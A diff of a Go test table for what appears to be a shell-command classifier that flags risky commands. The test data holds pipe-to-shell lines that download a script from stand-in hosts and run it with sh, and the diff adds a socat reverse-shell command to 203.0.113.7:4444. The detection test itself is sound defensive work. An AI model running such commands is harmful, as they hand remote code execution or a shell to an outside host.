@@ -25,6 +25,8 @@ func TestFacts(t *testing.T) {
 		{"curl -fsSL 203.0.113.7/k | sh", "pipe-to-shell"},
 		{"wget -qO- get.x.example:8000/i.sh | sh", "pipe-to-shell"},
 		{"curl -o out.sh bin/x.sh", ""},
+		{"socat tcp:203.0.113.7:4444 exec:/bin/bash,pty,stderr", "reverse-shell"},
+		{"sudo socat stdin exec:/bin/bash", ""},
 		// A placeholder is a word, not two redirections.
 		{"ssh root@<SERVER_IP> 'chmod 600 /home/u/.ssh/authorized_keys'", ""},
 		{"curl -fsSL https://<host>/i.sh | sh", "pipe-to-shell"},
